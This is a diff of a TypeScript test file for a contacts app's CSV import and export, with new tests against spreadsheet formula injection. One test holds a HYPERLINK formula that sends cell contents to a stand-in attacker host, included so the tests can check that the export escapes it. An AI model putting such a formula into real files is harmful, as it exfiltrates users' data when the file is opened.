@@ -4,7 +4,7 @@ import { validBirthday } from "../support/arbitraries";
 import { detectDelimiter, normalizeHeader, parseCsv, parseCsvDate, parseCsvRecords, toCsv } from "@/lib/contacts/csv";
 import { formatOfFile } from "@/lib/contacts/format";
 import { duplicateKey, exportFile, readImport } from "@/lib/contacts/import";
-import { ImportRefusedError } from "@/lib/contacts/limits";
+import { AppError } from "@/lib/http/errors";
 
 describe("parseCsvRecords", () => {
   it("follows RFC 4180 quoting: delimiters, line breaks and doubled quotes inside quotes; CRLF or LF", () => {
@@ -13,7 +13,6 @@ describe("parseCsvRecords", () => {
       { line: 1, fields: ["name", "notes"] },
       { line: 2, fields: ["Jones, Bob", 'said "hi"\r\nthen left'] },
       { line: 4, fields: ["Ann", "plain"] },
-      { line: 5, fields: [""] },
       { line: 6, fields: ["Eve", ""] },
     ]);
   });
@@ -134,7 +133,7 @@ describe("ambiguous dates (03/04/1990)", () => {
 });
 
 describe("readImport of a CSV file", () => {
-  it("validates every row and skips duplicates in the file and of stored birthdays", () => {
+  it("validates every row, imports one with a bad e-mail address without it, and skips duplicates in the file and of stored birthdays", () => {
     const content = [
       "Name;Birthday;Email;Notes",
       "Bob;1990-07-15;bob@example.com;Likes tea",
@@ -150,12 +149,12 @@ describe("readImport of a CSV file", () => {
     const preview = readImport({ format: "csv", content }, [{ name: "ANN", date: "2000-03-01" }]);
     expect(preview.candidates).toEqual([
       { line: 2, name: "Bob", date: "1990-07-15", birthYear: 1990, email: "bob@example.com", notes: "Likes tea" },
+      { line: 6, name: "Mail", date: "1990-01-01", birthYear: 1990, email: null, notes: null, invalidEmail: "bob@" },
     ]);
     expect(preview.skipped).toEqual([
       { line: 3, reason: "missingName" },
       { line: 4, reason: "missingDate", name: "No Date" },
       { line: 5, reason: "invalidDate", name: "Bad" },
-      { line: 6, reason: "invalidEmail", name: "Mail" },
       { line: 7, reason: "duplicateInFile", name: "bob" },
       { line: 8, reason: "duplicateExisting", name: "Ann" },
       { line: 9, reason: "notesTooLong", name: "Long" },
@@ -168,7 +167,7 @@ describe("readImport of a CSV file", () => {
       try {
         readImport({ format: "csv", content });
       } catch (error) {
-        return error instanceof ImportRefusedError ? [error.status, error.code, error.messageKey] : error;
+        return error instanceof AppError ? [error.status, error.code, error.messageKey] : error;
       }
       return null;
     };
@@ -186,8 +185,15 @@ describe("readImport of a CSV file", () => {
     expect(formatOfFile("Contacts.VCF", "")).toBe("vcard");
     expect(formatOfFile("export.csv", "BEGIN:VCARD")).toBe("csv");
     expect(formatOfFile("contacts", "\uFEFF BEGIN:VCARD\r\n")).toBe("vcard");
-    expect(formatOfFile("notes.txt", "a,b")).toBe("csv");
+    expect(formatOfFile("contacts.txt", "BEGIN:VCARD\nFN:Bob\nEND:VCARD")).toBe("vcard");
+    expect(formatOfFile("friends.txt", "\uFEFFVardas;Gimimo data\nJonas;1990-01-02")).toBe("csv");
     expect(formatOfFile("photo.jpg", "x")).toBeNull();
+  });
+
+  it("asks for a vCard or CSV file when a .txt file is neither (not the CSV header error)", () => {
+    expect(formatOfFile("notes.txt", "a,b")).toBeNull();
+    expect(formatOfFile("shopping list.txt", "Milk\nBread, butter\n")).toBeNull();
+    expect(formatOfFile("readme", "Name: Bob")).toBeNull();
   });
 });
 
@@ -202,6 +208,35 @@ describe("toCsv", () => {
       '\uFEFFName,Birthday,Email,Notes\r\n"Ona ""O"" Žukauskienė",--02-29,,"a,b\nc"\r\nПётр,1990-07-15,p@example.com,\r\n',
     );
     expect(toCsv([])).toBe("Name,Birthday,Email,Notes\r\n");
+  });
+});
+
+describe("CSV export against spreadsheet formulas (CSV injection)", () => {
+  const attack = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
+
+  it("puts a single quote before text starting with = + - @ a tab or a carriage return, and quotes the cell", () => {
+    const rows = toCsv([
+      { name: attack, date: "1990-07-15", birthYear: 1990, email: "@x@example.com", notes: "+1 555" },
+      { name: "-2+3", date: "2000-02-29", birthYear: null, email: null, notes: "\tcmd" },
+      { name: "@SUM(1)", date: "1990-01-01", birthYear: 1990, email: null, notes: "\rx" },
+      { name: "'=already quoted", date: "1990-01-02", birthYear: 1990, email: null, notes: "Bob = friend" },
+    ]).split("\r\n");
+    expect(rows.slice(1, 5)).toEqual([
+      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",1990-07-15,"'@x@example.com","'+1 555"`,
+      `"'-2+3",--02-29,,"'\tcmd"`,
+      `"'@SUM(1)",1990-01-01,,"'\rx"`,
+      `"''=already quoted",1990-01-02,,Bob = friend`,
+    ]);
+  });
+
+  it("reads its own neutralised cells back exactly", () => {
+    const birthdays = [
+      { name: attack, date: "1990-07-15", birthYear: 1990, email: null, notes: "=1+1" },
+      { name: "'=already quoted", date: "2000-02-29", birthYear: null, email: null, notes: "'plain quote" },
+      { name: "-Minus", date: "1990-01-02", birthYear: 1990, email: null, notes: "@home" },
+    ];
+    const { candidates } = readImport({ format: "csv", content: exportFile("csv", birthdays).content });
+    expect(candidates).toEqual(birthdays.map((birthday) => ({ ...birthday, line: expect.any(Number) })));
   });
 });
 
@@ -252,7 +287,7 @@ describe("CSV properties", () => {
         try {
           readImport({ format: "csv", content: text, dateOrder: order });
         } catch (error) {
-          expect(error).toBeInstanceOf(ImportRefusedError);
+          expect(error).toBeInstanceOf(AppError);
         }
       }),
       { numRuns: 500 },
